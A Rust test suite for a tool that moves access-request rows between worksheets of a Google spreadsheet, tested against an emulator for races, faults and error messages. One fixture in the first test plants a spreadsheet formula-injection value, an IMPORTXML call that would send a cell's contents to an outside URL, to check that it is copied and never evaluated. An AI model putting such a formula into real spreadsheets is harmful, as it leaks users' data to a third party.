//! The sign-up sheet at Google, by the emulator that Google's own clients work with.

use std::path::Path;

use serde_json::json;
use usher_tests::sheet::{AccessRow, DONE, REQUESTS};

use crate::at_google::{AtGoogle, CHANGE, LIST, READ};
use crate::newcomer;
use crate::stage::{expect_status, expect_words};

#[test]
fn rows_move_within_four_calls_whatever_their_number_and_nothing_is_evaluated() {
    let domain = "plain.google.example.org";
    let mut rows: Vec<AccessRow> =
        (0..5).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("Google {n}"))).collect();
    rows[0].set(13, "=IMPORTXML(\"https://example.org/?\" & M2, \"//a\")");
    rows[1].set(5, "\u{5d9}\u{5e2}\u{5dc}").set(6, "\u{1f98a}");
    rows[2].set(12, "");
    rows[3].set(0, "");
    let at = AtGoogle::new(&rows, false);
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 1);
    assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE], "{}", run.said());
    let moved: Vec<String> = [0, 1, 4].map(|n| format!("user{n}@{domain}")).to_vec();
    let left: Vec<String> = [2, 3].map(|n| format!("user{n}@{domain}")).to_vec();
    let (requests, done) = (at.requests(), at.done());
    assert_eq!(AtGoogle::addresses(&requests), left);
    assert_eq!(AtGoogle::addresses(&done), moved);
    assert_eq!(done[0], requests[0], "the worksheet that was made has the header");
    assert_eq!(done[1], rows[0].0[..done[1].len()], "a row moves as it was");
    assert!(done[1][13].starts_with("=IMPORTXML("));
    at.google.expect_order().unwrap();

    at.google.calm().unwrap();
    expect_status(&at.site.import(&["--all"]).unwrap(), 1);
    assert_eq!(at.google.calls().unwrap(), [READ], "nothing was left to move");
    assert_eq!(at.stage.mail.received().unwrap().len(), 9);

    // A name that would mean something else in a URL or in a range.
    let odd = "2026/27? #1 100% A1:B2";
    at.google
        .edit(&at.spreadsheet, &json!([{ "kind": "rename-sheet", "sheet": REQUESTS, "title": odd }]))
        .unwrap();
    let row_parser = "[plugins.quota_policy]\n";
    let worksheets =
        format!("[plugins.row_parser.settings]\naccess = {{ requests = \"{odd}\" }}\n\n{row_parser}");
    at.site.change_settings(row_parser, &worksheets).unwrap();
    let run = at.site.import(&["--all", "--dry-run"]).unwrap();
    expect_status(&run, 1);
    expect_words(&run, &[&left[0]]);
}

#[test]
fn a_sheet_that_people_edit_meanwhile_moves_only_finished_rows() {
    let domain = "edited.google.example.org";
    let rows: Vec<AccessRow> =
        (0..4).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("Edited {n}"))).collect();
    let edits = [
        json!([{ "kind": "sort", "sheet": REQUESTS, "column": "E", "descending": true }]),
        json!([{ "kind": "insert-row", "sheet": REQUESTS, "row": 2, "values": ["", "", "", "1/1/2019 10:00:00", "late@example.org"] }]),
        json!([{ "kind": "delete-row", "sheet": REQUESTS, "row": 3 }]),
        json!([{ "kind": "set-cell", "sheet": REQUESTS, "cell": "A4", "value": "denied" }]),
    ];
    for (number, edit) in edits.iter().enumerate() {
        let rows: Vec<AccessRow> = rows
            .iter()
            .map(|row| {
                let mut row = row.clone();
                let (email, project) = (format!("{number}.{}", row.0[4]), format!("{} {number}", row.0[15]));
                row.set(4, &email).set(15, &project);
                row
            })
            .collect();
        let at = AtGoogle::new(&rows, true);
        // The sheet is read, and edited before it is read again for the move.
        at.google
            .faults(&json!([{ "method": READ, "nth": 2, "kind": "edit", "spreadsheet": at.spreadsheet, "edits": edit }]))
            .unwrap();
        let run = at.site.import(&["--all"]).unwrap();
        assert!(run.status == Some(0), "{edit}: {}", run.said());
        let (requests, done) = (at.requests(), at.done());
        let mut moved = AtGoogle::addresses(&done);
        moved.sort_unstable();
        let left = AtGoogle::addresses(&requests);
        let user = |n: usize| format!("{number}.user{n}@{domain}");
        match number {
            0 => assert_eq!((moved.len(), left.len()), (4, 0)),
            1 => assert_eq!((moved.len(), left), (4, vec!["late@example.org"])),
            2 => assert_eq!((moved, left.len()), (vec![&*user(0), &*user(2), &*user(3)], 0)),
            _ => assert_eq!((moved, left), (vec![&*user(0), &*user(1), &*user(3)], vec![&*user(2)])),
        }
        at.google.expect_order().unwrap();
    }
}

#[test]
fn passing_trouble_is_waited_out_and_lost_answers_are_found_out() {
    let domain = "faults.google.example.org";
    let rows = [AccessRow::founding(&format!("user@{domain}"), "Google Faults")];
    let at = AtGoogle::new(&rows, true);
    at.google
        .faults(&json!([
            { "method": READ, "kind": "status", "status": 429, "retry_after": 1 },
            { "method": READ, "nth": 3, "kind": "status", "status": 503 },
            { "method": LIST, "kind": "cut-before" },
            { "method": CHANGE, "kind": "status", "status": 429, "retry_after": 1 },
            { "method": CHANGE, "nth": 2, "kind": "cut-after" },
        ]))
        .unwrap();
    let run = at.site.import(&["--all"]).unwrap();
    expect_words(&run, &["not known whether Google has changed the spreadsheet"]);
    // The change was made, and its answer was lost. The next run finds the row in the other worksheet.
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 0);
    assert_eq!(at.requests().len(), 1);
    assert_eq!(AtGoogle::addresses(&at.done()), [format!("user@{domain}")]);
    assert_eq!(at.stage.mail.received().unwrap().len(), 3);
    at.google.expect_order().unwrap();
}

#[test]
fn errors_name_the_remedy_and_nothing_is_done() {
    let domain = "errors.google.example.org";
    let user = format!("user@{domain}");
    let at = AtGoogle::new(&[AccessRow::founding(&user, "Google Errors")], true);
    let key_file = at.google.key_file();
    let swap = |from: &Path, to: &Path| {
        at.site.change_settings(&from.display().to_string(), &to.display().to_string()).unwrap();
    };
    let stranger = at.google.stranger_key_file();
    swap(&key_file, &stranger);
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 2);
    let key: serde_json::Value = serde_json::from_slice(&std::fs::read(&stranger).unwrap()).unwrap();
    expect_words(&run, &["share it as editor with", key["client_email"].as_str().unwrap()]);
    let revoked = at.google.revoked_key_file();
    swap(&stranger, &revoked);
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 2);
    expect_words(&run, &["does not accept the service account", "Invalid JWT Signature"]);
    swap(&revoked, &key_file);

    at.site.change_settings(&at.spreadsheet, "another-id").unwrap();
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 2);
    expect_words(&run, &["no spreadsheet another-id", "between /d/ and /edit"]);
    at.site.change_settings("another-id", &at.spreadsheet).unwrap();

    at.google
        .edit(&at.spreadsheet, &json!([{ "kind": "rename-sheet", "sheet": REQUESTS, "title": "Answers" }]))
        .unwrap();
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 2);
    expect_words(&run, &[REQUESTS, "\"Answers\"", DONE]);

    assert_eq!(at.stage.cloud.identity().unwrap().user_id(&user).unwrap(), None);
    assert!(at.stage.mail.received().unwrap().is_empty());
    assert!(newcomer::links(&at.stage.mail, &user).is_empty());
    let doctor = at.site.usher(&["doctor"]).unwrap();
    expect_status(&doctor, 2);
    expect_words(&doctor, &["\"Answers\""]);
}

/// What Google cannot prevent: the sheet changes between the last look and the move.
#[test]
fn rows_that_a_move_took_in_the_place_of_others_are_put_back() {
    let sort = json!({ "kind": "sort", "sheet": REQUESTS, "column": "E", "descending": true });
    let insert = json!({ "kind": "insert-row", "sheet": REQUESTS, "row": 2, "values": ["", "", "", "", "late@example.org"] });
    let delete = json!({ "kind": "delete-row", "sheet": REQUESTS, "row": 2 });
    for (number, edit) in [sort, insert, delete].into_iter().enumerate() {
        let domain = format!("race{number}.google.example.org");
        let user = |n: usize| format!("user{n}@{domain}");
        let mut rows: Vec<AccessRow> =
            (0..4).map(|n| AccessRow::founding(&user(n), &format!("Race {number} {n}"))).collect();
        // It cannot be processed, and stays.
        rows[1].set(12, "").set(13, "=A1 and more");
        let at = AtGoogle::new(&rows, true);
        at.google
            .faults(&json!([{ "method": CHANGE, "kind": "edit", "spreadsheet": at.spreadsheet, "edits": [edit] }]))
            .unwrap();
        let run = at.site.import(&["--all"]).unwrap();
        expect_status(&run, 1);
        let (requests, done) = (at.requests(), at.done());
        let mut moved = AtGoogle::addresses(&done);
        moved.sort_unstable();
        assert_eq!(moved, [user(0), user(2), user(3)], "{}", run.said());
        assert_eq!(AtGoogle::addresses(&requests), [user(1)], "{}", run.said());
        assert_eq!(requests[1], rows[1].0[..requests[1].len()], "it is as it was");
        expect_words(&run, &[&format!("row 3 (of {})", user(1)), "put back at the end of the worksheet"]);
        let unread = "1 row was deleted before anybody could read it";
        assert_eq!(run.stdout.contains(unread), number == 1, "{}", run.said());
        assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE, READ, CHANGE, READ]);
        at.google.expect_order().unwrap();

        at.google.calm().unwrap();
        let run = at.site.import(&["--all"]).unwrap();
        expect_status(&run, 1);
        assert!(!run.stdout.contains("conflict"), "{}", run.said());
        assert_eq!(at.google.calls().unwrap(), [READ]);
    }
}

#[test]
fn a_form_that_comes_in_during_the_move_is_no_trouble() {
    let domain = "late.google.example.org";
    let rows: Vec<AccessRow> =
        (0..2).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("Late {n}"))).collect();
    let at = AtGoogle::new(&rows, true);
    let late = json!({ "kind": "append-row", "sheet": REQUESTS, "values": ["", "", "", "1/1/2019 10:00:00", "late@example.org"] });
    at.google
        .faults(
            &json!([{ "method": CHANGE, "kind": "edit", "spreadsheet": at.spreadsheet, "edits": [late] }]),
        )
        .unwrap();
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 0);
    assert!(!run.stdout.contains("Notice"), "{}", run.said());
    assert_eq!(AtGoogle::addresses(&at.requests()), ["late@example.org"]);
    assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE]);
}

/// Four rows, of which the second cannot be processed, and what happens to the calls.
fn race(domain: &str, faults: impl FnOnce(&str) -> serde_json::Value) -> (AtGoogle, Vec<AccessRow>) {
    let mut rows: Vec<AccessRow> =
        (0..4).map(|n| AccessRow::founding(&format!("user{n}@{domain}"), &format!("{domain} {n}"))).collect();
    rows[1].set(12, "");
    let at = AtGoogle::new(&rows, true);
    at.google.faults(&faults(&at.spreadsheet)).unwrap();
    (at, rows)
}

#[test]
fn a_column_that_is_put_in_during_the_move_doubles_nothing() {
    let insert = json!([{ "kind": "insert-column", "sheet": REQUESTS, "column": "A" }]);
    let (at, _) = race(
        "column.google.example.org",
        |spreadsheet| json!([{ "method": CHANGE, "kind": "edit", "spreadsheet": spreadsheet, "edits": insert }]),
    );
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 1);
    expect_words(&run, &["column was put in", "that had the numbers 3,", "version history"]);
    let requests = at.requests();
    assert_eq!((requests.len(), requests[1][5].as_str()), (2, "user1@column.google.example.org"));
    assert_eq!(AtGoogle::addresses(&at.done()).len(), 3);
    assert_eq!(at.google.calls().unwrap(), [READ, READ, LIST, CHANGE, READ]);
}

#[test]
fn a_row_that_a_repair_took_before_anybody_read_it_is_told() {
    let sort = json!([{ "kind": "sort", "sheet": REQUESTS, "column": "E", "descending": true }]);
    let insert = json!([{ "kind": "insert-row", "sheet": REQUESTS, "row": 2, "values": ["", "", "", "", "late@example.org"] }]);
    let (at, _) = race("twice.google.example.org", |spreadsheet| {
        json!([
            { "method": CHANGE, "kind": "edit", "spreadsheet": spreadsheet, "edits": sort },
            { "method": CHANGE, "nth": 2, "kind": "edit", "spreadsheet": spreadsheet, "edits": insert },
        ])
    });
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 1);
    expect_words(&run, &["1 row was deleted before anybody could read it", "put back at the end"]);
    assert_eq!(AtGoogle::addresses(&at.requests()), ["user1@twice.google.example.org"], "{}", run.said());
    assert_eq!(AtGoogle::addresses(&at.done()).len(), 3);
}

#[test]
fn a_move_in_another_order_whose_answer_is_lost_is_put_right_too() {
    let sort = json!([{ "kind": "sort", "sheet": REQUESTS, "column": "E", "descending": true }]);
    let (at, rows) = race("lost.google.example.org", |spreadsheet| {
        json!([
            { "method": CHANGE, "kind": "edit", "spreadsheet": spreadsheet, "edits": sort },
            { "method": CHANGE, "kind": "cut-after" },
        ])
    });
    let run = at.site.import(&["--all"]).unwrap();
    expect_status(&run, 1);
    expect_words(&run, &["row 3 (of user1@lost.google.example.org)", "put back at the end of the worksheet"]);
    let requests = at.requests();
    assert_eq!(AtGoogle::addresses(&requests), ["user1@lost.google.example.org"], "{}", run.said());
    assert_eq!(requests[1], rows[1].0[..requests[1].len()], "it is as it was");
    assert_eq!(AtGoogle::addresses(&at.done()).len(), 3);

    // Where the move was not made, people's edits are not taken for what it did.
    let delete = json!([{ "kind": "delete-row", "sheet": REQUESTS, "row": 3 }]);
    let (at, _) = race("unmade.google.example.org", |spreadsheet| {
        json!([
            { "method": CHANGE, "kind": "edit", "spreadsheet": spreadsheet, "edits": delete },
            { "method": CHANGE, "kind": "cut-before" },
        ])
    });
    let run = at.site.import(&["--all"]).unwrap();
    expect_words(&run, &["not known whether Google has changed the spreadsheet"]);
    assert_eq!((AtGoogle::addresses(&at.requests()).len(), at.done().len()), (3, 1), "{}", run.said());
    expect_status(&at.site.import(&["--all"]).unwrap(), 0);
    assert_eq!((at.requests().len(), AtGoogle::addresses(&at.done()).len()), (1, 3));
}
